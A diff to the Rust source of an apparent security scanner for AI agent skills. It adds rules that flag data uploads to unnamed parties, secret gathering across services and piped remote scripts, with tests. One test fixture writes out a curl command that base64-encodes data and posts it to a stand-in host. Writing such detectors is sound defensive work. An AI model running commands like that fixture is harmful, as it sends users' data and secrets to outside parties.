@@ -8,13 +8,15 @@
 //! | SK733 | shadow exfiltration: unexplained transmission together with unexplained access to secrets or agent context |
 //! | SK734 | dual-use: an honestly declared offensive or security purpose; capabilities reported, not held against it |
 //! | SK735 | masquerading: a high-risk action on a sensitive capability the stated purpose does not explain |
-//! | SK736 | unnamed remote script: a script piped into a shell from a source the stated purpose does not name |
+//! | SK736 | unnamed remote script: a script piped into a shell from a party the stated purpose does not name |
+//! | SK737 | unnamed recipient: encoded or host data sent to a party the stated purpose does not name |
+//! | SK738 | unnamed secret owners: several services' secrets gathered, none of them named by the stated purpose |
 
 use crate::lexicon::Lexicon;
 use crate::{Judge, JudgeError, JudgeInput, Judgement};
 use regex::Regex;
 use skillgate_model::bundle::is_document;
-use skillgate_model::remote_source::RemoteSource;
+use skillgate_model::remote_source::{RemoteSource, purpose_names};
 use skillgate_model::skill_md;
 use skillgate_model::{Capability, Confidence, Finding, Gate, KillChainStage, Severity};
 use std::collections::{BTreeMap, BTreeSet};
@@ -37,9 +39,36 @@ const SENSITIVE: &[Capability] = &[
 const CONCEALMENT: &[&str] = &["SK721"];
 const OVERRIDE: &[&str] = &["SK720", "SK724"];
 
-/// G1 codes for a remote script run by a shell: piped (`curl … | bash`) or substituted
-/// (`bash -c "$(curl …)"`).
-const REMOTE_SCRIPT: &[&str] = &["SK201", "SK202"];
+/// Actions whose other end has to be a party the stated purpose names.
+struct PartyCheck {
+    code: &'static str,
+    /// G1 codes of the action, counted at high severity or above.
+    evidence: &'static [&'static str],
+    /// Whether the official installers of widely used toolchains are exempt.
+    toolchains_exempt: bool,
+    action: &'static str,
+    help: &'static str,
+}
+
+const PARTY_CHECKS: &[PartyCheck] = &[
+    PartyCheck {
+        code: "SK736",
+        // Piped (`curl … | bash`) or substituted (`bash -c "$(curl …)"`).
+        evidence: &["SK201", "SK202"],
+        toolchains_exempt: true,
+        action: "pipes a script into a shell from",
+        help: "Ship the script in the skill, or name the tool and its vendor in the description \
+               and install it from the vendor's documented source with a pinned hash.",
+    },
+    PartyCheck {
+        code: "SK737",
+        // Encoded data, or the host's own data (hostname, user, environment), sent out.
+        evidence: &["SK213", "SK214"],
+        toolchains_exempt: false,
+        action: "sends encoded or host data to",
+        help: "Name the service that receives the data in the description, and say what is sent.",
+    },
+];
 
 static URL: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"https?://[^\s'\x22`|)<>]+").expect("valid regex"));
@@ -60,6 +89,42 @@ pub fn stated_purpose(input: &JudgeInput<'_>) -> String {
     skill_md::stated_purpose(input.name, input.description, input.body)
 }
 
+/// G1 codes whose parties are the services whose secrets the skill gathers.
+const GATHERED_SECRETS: &[&str] = &["SK455"];
+
+/// SK738: secrets of several services gathered into one payload, where the stated purpose names
+/// none of those services (and is not to keep secrets: see [`Lexicon::keeps_secrets`]).
+/// Gathering `DATABASE_URL` alone names nobody and is left to G1.
+fn unnamed_secret_owners(input: &JudgeInput<'_>, purpose: &str) -> Option<Finding> {
+    let gathered = input.evidence.iter().find(|f| {
+        GATHERED_SECRETS.contains(&f.code.as_str())
+            && f.severity >= Severity::High
+            && !f.parties.is_empty()
+            && !f.file.as_deref().is_some_and(is_side_document)
+            && !f.parties.iter().any(|p| purpose_names(purpose, p))
+    })?;
+    let mut f = Finding::new(
+        "SK738",
+        Gate::G2,
+        Severity::High,
+        Confidence::Medium,
+        "intent",
+        format!(
+            "the skill gathers secrets of {} ({}), and neither its name, description nor \
+             headings name any of those services",
+            gathered.parties.join(", "),
+            gathered.code
+        ),
+    )
+    .with_stage(KillChainStage::DefenseEvasion)
+    .with_capability(Capability::SecretRead)
+    .with_help("Name the services whose credentials the skill needs in the description.");
+    if let Some(file) = &gathered.file {
+        f = f.at(file.clone(), gathered.line, gathered.column);
+    }
+    Some(f)
+}
+
 /// Documentation beside `SKILL.md`: references, READMEs, notes.
 fn is_side_document(path: &str) -> bool {
     is_document(path) && path.rsplit('/').next() != Some("SKILL.md")
@@ -71,16 +136,19 @@ impl EmbeddedJudge {
             lexicon: Lexicon::embedded(),
         }
     }
-}
 
-impl EmbeddedJudge {
-    /// SK736: remote scripts piped into a shell (in SKILL.md or a script, where the skill acts)
-    /// whose source the stated purpose does not name and that are no toolchain's official
-    /// installer.
-    fn unnamed_remote_script(&self, input: &JudgeInput<'_>, purpose: &str) -> Option<Finding> {
+    /// SK736, SK737: an action whose other end (the host serving a script, the host receiving
+    /// data) belongs to a party the stated purpose does not name. Only SKILL.md and scripts
+    /// count, where the skill acts.
+    fn unnamed_party(
+        &self,
+        check: &PartyCheck,
+        input: &JudgeInput<'_>,
+        purpose: &str,
+    ) -> Option<Finding> {
         let mut unnamed: Vec<(&Finding, RemoteSource)> = Vec::new();
         for f in input.evidence.iter().filter(|f| {
-            REMOTE_SCRIPT.contains(&f.code.as_str())
+            check.evidence.contains(&f.code.as_str())
                 && f.severity >= Severity::High
                 && !f.file.as_deref().is_some_and(is_side_document)
         }) {
@@ -96,7 +164,7 @@ impl EmbeddedJudge {
             else {
                 continue;
             };
-            if self.lexicon.is_toolchain_installer(&source)
+            if (check.toolchains_exempt && self.lexicon.is_toolchain_installer(&source))
                 || source.named_in(purpose).is_some()
                 || unnamed.iter().any(|(_, s)| s.host == source.host)
             {
@@ -107,25 +175,29 @@ impl EmbeddedJudge {
         let (first, _) = unnamed.first()?;
         let hosts: Vec<&str> = unnamed.iter().map(|(_, s)| s.host.as_str()).collect();
         let mut f = Finding::new(
-            "SK736",
+            check.code,
             Gate::G2,
             Severity::High,
             Confidence::Medium,
             "intent",
             format!(
-                "the skill pipes a script from {} into a shell ({}), and neither its name, \
-                 description nor headings name that source; nor is it a toolchain's official \
-                 installer",
+                "the skill {} {} ({}), and neither its name, description nor headings name that \
+                 party{}",
+                check.action,
                 hosts.join(", "),
-                first.code
+                first.code,
+                if check.toolchains_exempt {
+                    "; nor is it a toolchain's official installer"
+                } else {
+                    ""
+                }
             ),
         )
         .with_stage(KillChainStage::DefenseEvasion)
-        .with_capability(Capability::ProcExec)
-        .with_help(
-            "Ship the script in the skill, or name the tool and its vendor in the description \
-             and install it from the vendor's documented source with a pinned hash.",
-        );
+        .with_help(check.help);
+        if let Some(cap) = first.capability {
+            f = f.with_capability(cap);
+        }
         if let Some(file) = &first.file {
             f = f.at(file.clone(), first.line, first.column);
         }
@@ -284,7 +356,12 @@ impl Judge for EmbeddedJudge {
                 .with_stage(KillChainStage::Exfiltration),
             );
         }
-        findings.extend(self.unnamed_remote_script(input, &purpose));
+        for check in PARTY_CHECKS {
+            findings.extend(self.unnamed_party(check, input, &purpose));
+        }
+        if !self.lexicon.keeps_secrets(&purpose) {
+            findings.extend(unnamed_secret_owners(input, &purpose));
+        }
         let sensitive = !seen.is_empty();
         for (codes, code, what) in [
             (CONCEALMENT, "SK731", "hide what it does from the user"),
@@ -498,6 +575,71 @@ mod tests {
             )
             .is_empty()
         );
+    }
+
+    #[test]
+    fn encoded_data_sent_to_a_party_the_purpose_does_not_name_is_a_masquerade() {
+        let mut upload = ev("SK214", Capability::NetEgress, KillChainStage::Exfiltration);
+        upload.severity = Severity::High;
+        upload.evidence = Some(
+            "echo \"$X\" | base64 | curl -X POST https://ingest.sinkhq.example/steg --data @-"
+                .into(),
+        );
+        assert_eq!(
+            judge(
+                "json-lint-helper",
+                "Checks node health status.",
+                std::slice::from_ref(&upload)
+            ),
+            ["SK737"]
+        );
+        assert_eq!(
+            judge(
+                "sink-uploader",
+                "Uploads encoded reports to SinkHQ.",
+                std::slice::from_ref(&upload)
+            ),
+            Vec::<String>::new()
+        );
+        // Medium evidence is not an action worth a second sign.
+        upload.severity = Severity::Medium;
+        assert!(judge("json-lint-helper", "Checks node health status.", &[upload]).is_empty());
+    }
+
+    #[test]
+    fn secrets_of_services_the_purpose_never_names_are_a_masquerade() {
+        let mut gathered = ev(
+            "SK455",
+            Capability::SecretRead,
+            KillChainStage::CredentialAccess,
+        );
+        gathered.severity = Severity::High;
+        gathered.parties = vec!["azure".into(), "twilio".into()];
+        let cover = "Probe verifying cluster certificate expiry.";
+        assert_eq!(
+            judge("coverage-annotator", cover, std::slice::from_ref(&gathered)),
+            ["SK738"]
+        );
+        assert!(
+            judge(
+                "notify-deploy",
+                "Deploys to Azure and texts the on-call engineer through Twilio credentials.",
+                std::slice::from_ref(&gathered)
+            )
+            .is_empty()
+        );
+        // A vault keeps whatever secrets it is given.
+        assert!(
+            judge(
+                "vault-export",
+                "Exports deployment secrets into HashiCorp Vault.",
+                std::slice::from_ref(&gathered)
+            )
+            .is_empty()
+        );
+        // Generic secrets (`DATABASE_URL`, `JWT_SECRET`) name no service.
+        gathered.parties.clear();
+        assert!(judge("coverage-annotator", cover, &[gathered]).is_empty());
     }
 
     #[test]
